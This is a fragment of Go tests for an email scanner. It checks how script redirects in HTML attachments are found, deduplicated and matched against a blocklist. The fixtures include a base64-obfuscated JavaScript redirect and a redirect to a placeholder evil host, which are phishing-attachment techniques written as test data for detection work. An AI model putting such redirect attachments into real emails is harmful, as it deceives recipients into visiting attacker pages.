	m := pageAttach("Statement.html", `<p>Opening your statement...</p><script>setTimeout(function(){ location.replace(atob('`+
		base64.StdEncoding.EncodeToString([]byte("https://portal.example.com/statement/2027-01"))+`')) }, 500)</script>`)
	m.From = "billing@example.com"
	var urlFindings []string
	for _, f := range scan(t, newScanner(t), m) {
		if f.ID != "html-redirect-attachment" {
			urlFindings = append(urlFindings, f.ID+": "+f.Detail)
		}
	}
	if len(urlFindings) > 0 {
		t.Errorf("honest redirect has findings %q", urlFindings)
	}
	if u := AllURLs(m); len(u) != 1 || u[0].Source != urls.SourceScript || u[0].Host != "portal.example.com" {
		t.Errorf("AllURLs = %+v, want the script's address", u)
	}
}

// TestScriptURLsDedup: an address written plainly in the page is the
// page's own, not added again from its script.
func TestScriptURLsDedup(t *testing.T) {
	m := pageAttach("a.html", `<script>location.href = "https://www.evil.example/x";</script>`)
	e := newEnv(context.Background(), m, Options{})
	defer e.release()
	if u := e.partURLs(m.Parts[1]); len(u) != 1 || u[0].Source != urls.SourceText {
		t.Errorf("partURLs = %+v, want the one text URL", u)
	}
	f := find(scan(t, newScanner(t), m), "blocklisted-url")
	if f == nil || strings.Contains(f.Detail, "script") {
		t.Errorf("blocklisted-url = %+v, want the page's own link", f)
	}
}
